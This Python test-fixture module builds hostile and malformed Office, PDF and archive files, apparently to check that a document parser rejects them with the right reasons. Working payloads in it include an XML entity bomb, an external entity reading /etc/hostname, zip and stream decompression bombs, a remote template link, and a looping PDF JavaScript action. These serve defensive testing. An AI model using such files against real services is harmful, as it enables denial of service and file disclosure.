"""Files that hurt careless readers, made here so that any checkout has them."""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_RELATIONS_TYPE = "application/vnd.openxmlformats-package.relationships+xml"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def package(
    parts: Mapping[str, bytes | str],
    main_type: str = WORD_TYPE,
    main: str = "word/document.xml",
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """An Office file with these parts; content types and relationships are made unless given."""
    everything = {
        "[Content_Types].xml": (
            f'<Types xmlns="{PACKAGE}/content-types">'
            f'<Default Extension="rels" ContentType="{_RELATIONS_TYPE}"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{main}" ContentType="{main_type}"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="{main}"/></Relationships>'
        ),
        **parts,
    }
    return zipped(everything, method)


def zipped(members: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    with io.BytesIO() as out:
        with zipfile.ZipFile(out, "w", method) as archive:
            for name, content in members.items():
                archive.writestr(zipfile.ZipInfo(name), content, method)
        return out.getvalue()


def docx(body: str = "", prologue: str = "", parts: Mapping[str, bytes | str] | None = None) -> bytes:
    """A Word document with this inside ``w:body``."""
    document = f'{prologue}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    return package({"word/document.xml": document, **(parts or {})})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def inflating(megabytes: int) -> bytes:
    """Raw deflate data that unpacks to so many megabytes of blanks, made without packing them all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + packer.flush(zlib.Z_FINISH)


def inflating_member(archive: bytes, name: str, megabytes: int) -> bytes:
    """The archive, its stored member ``name`` (which holds ``inflating(megabytes)``) declared as deflated."""
    out = bytearray(archive)
    central = out.rindex(name.encode()) - 46
    local = int.from_bytes(out[central + 42 : central + 46], "little")
    for place, size_place in ((local + 8, local + 22), (central + 10, central + 24)):
        struct.pack_into("<H", out, place, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", out, size_place, megabytes << 20)
    return bytes(out)


def pdf(objects: Mapping[int, bytes], root: int = 1, extra: bytes = b"") -> bytes:
    """A PDF of these objects, with a right cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(
        b"%010d 00000 %b \n" % (places.get(n, 0), b"n" if n in places else b"f") for n in range(1, size)
    )
    out += b"trailer\n<< /Size %d /Root %d 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, extra, start)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def one_page_pdf(content: bytes, page: bytes = b"/MediaBox [0 0 595 842]", catalog: bytes = b"") -> bytes:
    """A PDF of one page that shows this content, an object like ``stream(...)``."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R %b /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>" % page,
            4: content,
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
    )


def compound_file(*names: str) -> bytes:
    """An OLE2 file with empty streams of these names in its root."""
    entries = [_entry("Root Entry", 5, child=1 if names else None)]
    entries += [_entry(n, 2, right=i + 1 if i < len(names) else None) for i, n in enumerate(names, start=1)]
    entries += [bytes(128)] * (-len(entries) % 4)
    directory = b"".join(entries)
    count = len(directory) // 512
    header = struct.pack(
        "<8s16xHHHHH6xIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0,
    )  # fmt: skip
    table = [0xFFFFFFFD, *range(2, count + 1), 0xFFFFFFFE]
    return (
        (header + struct.pack("<I", 0)).ljust(512, b"\xff")
        + struct.pack(f"<{len(table)}I", *table).ljust(512, b"\xff")
        + directory
    )


def _entry(name: str, kind: int, right: int | None = None, child: int | None = None) -> bytes:
    encoded = name.encode("utf-16-le") + b"\0\0"
    links = (0xFFFFFFFF, 0xFFFFFFFF if right is None else right, 0xFFFFFFFF if child is None else child)
    return encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, *links).ljust(64, b"\0")


def tarred(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    with io.BytesIO() as out:
        with tarfile.open(fileobj=out, mode="w") as archive:
            for info, content in members:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        return out.getvalue()


@dataclass(frozen=True)
class Hostile:
    """A file, and what must be said of it.

    Attributes:
        reasons: keys of the catalogue of which one must be given; none: any outcome but a pass.
        notices: kinds of active content that must be noticed.
    """

    name: str
    data: bytes
    reasons: tuple[str, ...] = ()
    notices: tuple[str, ...] = ()


def hostile_files() -> Iterator[Hostile]:
    yield from _not_what_they_say()
    yield from _torn()
    yield from _word_attacks()
    yield from _pdf_attacks()


def _not_what_they_say() -> Iterator[Hostile]:
    text = "这不是 Word 文档。".encode()
    yield Hostile("空.docx", b"", ("empty-file",))
    yield Hostile("零.docx", bytes(5000), ("damaged",))
    yield Hostile("乱码.pdf", bytes(range(256)) * 40, ("damaged",))
    yield Hostile("文本.docx", text, ("misnamed",))
    yield Hostile("文本.txt", text, ("unsupported",))
    yield Hostile("网页.doc", b"<html><body>" + text)
    yield Hostile("图片.pdf", b"\x89PNG\r\n\x1a\n" + bytes(100), ("damaged",))
    yield Hostile("程序.docx", b"MZ" + bytes(500), ("misnamed",))
    yield Hostile("旧版.doc", compound_file("WordDocument", "1Table"), ("damaged", "no-converter"))
    yield Hostile("加密.docx", compound_file("EncryptionInfo", "EncryptedPackage"), ("encrypted",))
    yield Hostile(
        "表格.docx", package({"xl/workbook.xml": "<workbook/>"}, _SHEET, "xl/workbook.xml"), ("misnamed",)
    )
    yield Hostile("七.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(50), ("damaged",))
    yield Hostile("实为文档.pdf", docx(paragraph("建设依据")))
    yield Hostile("前有杂物.pdf", b"junk\n" * 50 + one_page_pdf(stream(b"BT /F1 12 Tf (text) Tj ET")))


_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _torn() -> Iterator[Hostile]:
    whole = docx("".join(paragraph(f"第 {n} 段 {zlib.crc32(b'%d' % n)}") for n in range(2000)))
    for share in (1, 10, 50, 90, 99):
        yield Hostile(f"传到百分之{share}.docx", whole[: len(whole) * share // 100], ("damaged", "misnamed"))
    flipped = bytearray(whole)
    flipped[whole.index(b"word/document.xml") + 200] ^= 0xFF
    yield Hostile("一个字节错.docx", bytes(flipped), ("damaged",))
    yield Hostile("没有正文.docx", package({}), ("damaged", "unsupported"))
    yield Hostile("没有目录.docx", zipped({"word/document.xml": "<x/>"}))
    yield Hostile("正文断了.docx", package({"word/document.xml": "<w:document><w:body>"}), ("damaged",))
    yield Hostile("正文空.docx", package({"word/document.xml": b""}), ("damaged",))
    yield Hostile("没有文字.docx", docx(), ("no-content",))
    page = one_page_pdf(stream(b"BT /F1 12 Tf 72 720 Td (1. text) Tj ET\n" * 500))
    for share in (1, 10, 50, 90):
        yield Hostile(f"传到百分之{share}.pdf", page[: len(page) * share // 100])
    yield Hostile("只有头.pdf", b"%PDF-1.7\n", ("damaged",))
    yield Hostile("没有文字.pdf", one_page_pdf(stream(b"0 0 99 99 re f")), ("no-content", "no-text-layer"))


def _word_attacks() -> Iterator[Hostile]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    yield Hostile("实体炸弹.docx", docx(paragraph("&a9;"), f'<!DOCTYPE x [<!ENTITY a0 "哈">{laughs}]>'))
    outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]>'
    yield Hostile("外部实体.docx", docx(paragraph("&f;"), outside))
    yield Hostile("深层元素.docx", docx("<w:x>" * 100_000 + "</w:x>" * 100_000))
    table, end = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    yield Hostile("套娃表格.docx", docx(table * 60 + paragraph("底") + end * 60))
    yield Hostile("千层表格.docx", docx(table * 20_000 + paragraph("底") + end * 20_000))
    spanning = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc>'
    yield Hostile("巨大合并.docx", docx(f"<w:tbl><w:tr>{spanning}</w:tr></w:tbl>{paragraph('正文')}"))
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{1 - n}"/></w:style>'
        for n in (0, 1)
    )
    looped = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>建设依据</w:t></w:r></w:p>'
    yield Hostile("样式成环.docx", _with_styles(looped, styles))
    stored = package({"word/document.xml": inflating(1100)}, method=zipfile.ZIP_STORED)
    bomb = inflating_member(stored, "word/document.xml", 1100)
    yield Hostile("解压炸弹.docx", bomb, ("unpacks-too-large", "memory-limit"))
    yield Hostile("部件成群.docx", docx(paragraph("x"), parts={f"word/p{n}.xml": "" for n in range(20_001)}))
    yield Hostile("外部模板.docx", _with_remote_template())


def _with_styles(body: str, styles: str) -> bytes:
    sheet = f'<w:styles xmlns:w="{W}">{styles}</w:styles>'
    return docx(body, parts={**_related("styles", "styles.xml"), "word/styles.xml": sheet})


def _with_remote_template() -> bytes:
    address = 'http://192.0.2.1/x.dotm" TargetMode="External'
    return docx(paragraph("正文"), parts=_related("attachedTemplate", address))


def _related(kind: str, target: str) -> dict[str, str]:
    relation = f'<Relationship Id="r1" Type="{R}/{kind}" Target="{target}"/>'
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'
    return {"word/_rels/document.xml.rels": relations}


def _pdf_attacks() -> Iterator[Hostile]:
    catalog, pages = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%b] /Count %d >>"
    yield Hostile("页树成环.pdf", pdf({1: catalog, 2: pages % (b"2 0 R", 1)}))
    yield Hostile(
        "谎报页数.pdf", pdf({1: catalog, 2: pages % (b"3 0 R", 2_000_000_000), 3: b"<< /Type /Page >>"})
    )
    yield Hostile("页数太多.pdf", _many_pages(3500), ("too-many-pages",))
    yield Hostile("深层数组.pdf", one_page_pdf(stream(b"[" * 200_000 + b"]" * 200_000)))
    yield Hostile("流炸弹.pdf", one_page_pdf(stream(b"\x78\xda" + inflating(400), b"/Filter /FlateDecode")))
    shown = stream(b"BT /F1 12 Tf 72 720 Td (text) Tj ET")
    yield Hostile("巨大页面.pdf", one_page_pdf(shown, b"/MediaBox [0 0 1e9 1e9]"))
    yield Hostile("倒置页面.pdf", one_page_pdf(shown, b"/MediaBox [500 500 0 0] /Rotate 45"))
    script = b"/OpenAction << /S /JavaScript /JS (while \\(true\\) {}) >>"
    yield Hostile("脚本.pdf", one_page_pdf(shown, catalog=script))
    yield Hostile("表单自套.pdf", _form_in_itself())
    yield Hostile("交叉引用成环.pdf", one_page_pdf(shown).replace(b"/Root 1 0 R", b"/Prev 9 /Root 1 0 R"))


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    pages = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)
    return pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: pages, **dict.fromkeys(range(3, count + 3), page)}
    )


def _form_in_itself() -> bytes:
    resources = b"/Resources << /XObject << /X 4 0 R >> >>"
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R %b >>" % resources,
            4: stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources),
            5: stream(b"/X Do"),
        }
    )
